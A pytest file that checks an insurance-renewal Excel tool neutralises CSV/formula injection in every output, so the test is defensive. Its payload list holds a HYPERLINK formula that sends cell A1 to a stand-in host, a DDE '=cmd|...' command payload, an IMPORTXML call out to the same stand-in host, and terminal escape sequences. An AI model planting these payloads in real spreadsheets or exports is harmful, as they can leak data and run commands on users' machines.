"""Formula injection (issue 8, OWASP CSV injection): register text starting with ``=``,
``+``, ``-``, ``@``, tab or CR, and error-like text, is written as text in every output:
every command of the command line over a register carrying such text in every text
column, the tracking table and an extra column (also its header), and the macros' Excel
writer."""

from __future__ import annotations

import csv
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from fake_excel import FakeBook
from registers import D, policy

from renewal_xl.cli.main import main
from renewal_xl.columns import REGISTER, TRACKING
from renewal_xl.io.text import needs_quote
from renewal_xl.reports.spec import Report, Sheet, Table
from udfs.xlbook import XlBook

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
]
TEXT_COLUMNS = (
    "policy_no",
    "vin",
    "plate",
    "customer",
    "phone",
    "customer_type",
    "salesperson",
    "agency",
    "channel",
    "coverage",
)
EXTRA = '=IMPORTXML("http://example.invalid","//a")'  # a column of the user's, header and cells


def _register(path):
    rows = []
    for k, payload in enumerate(PAYLOADS):
        for column in TEXT_COLUMNS:
            fields = {column: payload + (str(k) if column == "policy_no" else "")}
            rows.append(policy(f"P{len(rows):03d}", len(rows) + 1, D(2025, 2, 5), **fields))
    frame = pd.DataFrame(rows, columns=list(REGISTER)).rename(columns=REGISTER)
    frame[EXTRA] = [PAYLOADS[k % len(PAYLOADS)] for k in range(len(frame))]
    frame.to_csv(path, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL)  # pandas leaves a lone CR unquoted
    return path


def _tracking(path):
    rows = [[f"{p}{k}", p, p, p, p, ""] for k, p in enumerate(PAYLOADS)]
    pd.DataFrame(rows, columns=list(TRACKING.values())).to_csv(
        path, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL
    )
    return path


COMMANDS = {
    "renewals": ["renewals", "{reg}", "--as-of", "2026-01-20", "--hotline", "=1+1"],
    "review": ["review", "{reg}", "--month", "2026-02", "--tracking", "{track}"],
    "price": ["price", "{reg}", "--as-of", "2026-01-20"],
    "statements": ["statements", "{reg}", "--month", "2025-02"],
    "check": ["check", "{reg}", "--as-of", "2026-01-20"],
}


@pytest.mark.parametrize("command", list(COMMANDS))
def test_register_text_is_never_a_formula_in_any_output(command, tmp_path):
    reg, track, out = _register(tmp_path / "r.csv"), _tracking(tmp_path / "t.csv"), tmp_path / "out.xlsx"
    args = [a.format(reg=reg, track=track) for a in COMMANDS[command]] + ["-o", str(out)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code in (0, 1), result.output  # check exits 1: it found problems
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere
    assert not any(re.search(r'<c [^>]*t="e"', s) for s in sheets)  # nor an error cell
    book = openpyxl.load_workbook(out)
    texts = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in texts if needs_quote(c.value)]
    assert risky, "the payloads reach the output"
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    shown = {c.value for c in risky}
    expected = {"renewals": "=1+1", "review": "@SUM(A1:A9)", "price": EXTRA, "statements": "+1+1", "check": "#N/A"}
    assert expected[command] in shown or any(v.startswith(expected[command]) for v in shown)


def test_the_check_lines_on_the_terminal_are_plain(tmp_path):
    rows = [policy("P1", 1, D(2025, 2, 5), plate="\t=1+1"), policy("P2", 2, D(2025, 2, 5), plate="\r=1+1\x1b[2J")]
    path = tmp_path / "r.csv"
    pd.DataFrame(rows, columns=list(REGISTER)).rename(columns=REGISTER).to_csv(path, index=False, quoting=csv.QUOTE_ALL)
    result = CliRunner().invoke(main, ["check", str(path), "--as-of", "2026-01-20"])
    assert result.exit_code == 1
    assert result.stdout.splitlines()[:2] == [
        "第 2 行 P1 车牌号=\\x09=1+1: 车牌号格式不符 (应如 鄂A·12345)",
        "第 3 行 P2 车牌号=\\x0d=1+1\\x1b[2J: 车牌号格式不符 (应如 鄂A·12345)",
    ]


def test_the_macros_excel_writer_quotes_formula_like_text():
    book = FakeBook("保单台账")
    table = Table(
        pd.DataFrame({"客户名称": ["=1+1", "张三", "#N/A"], "=x": ["@a", "b", "-1"], "保费": [1.0, 2.0, -3.0]})
    )
    XlBook(book).write_sheet(Sheet("续保清单", [table], notes=["+note"]), replace=False)
    ws = book.sheets["续保清单"]
    assert ws.row(1) == ["'+note"]
    assert ws.row(3) == ["客户名称", "'=x", "保费"]
    assert (
        ws.row(4) == ["'=1+1", "'@a", 1.0] and ws.row(5) == ["张三", "b", 2.0] and ws.row(6) == ["'#N/A", "'-1", -3.0]
    )


def test_the_macros_over_a_workbook_file_quote_too(tmp_path):
    from renewal_xl.render.openpyxl_book import OpenpyxlBook
    from renewal_xl.render.xlsx_writer import write_report

    path = tmp_path / "book.xlsx"
    write_report(Report([Sheet("保单台账", [Table(pd.DataFrame({"a": [1]}))])]), path, marker=False)
    book = OpenpyxlBook(path)
    book.write_sheet(Sheet("续保清单", [Table(pd.DataFrame({"客户名称": ["=1+1", "#DIV/0!"]}))]), replace=False)
    book.save()
    ws = openpyxl.load_workbook(path)["续保清单"]
    cells = [ws["A2"], ws["A3"]]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [("=1+1", "s", True), ("#DIV/0!", "s", True)]
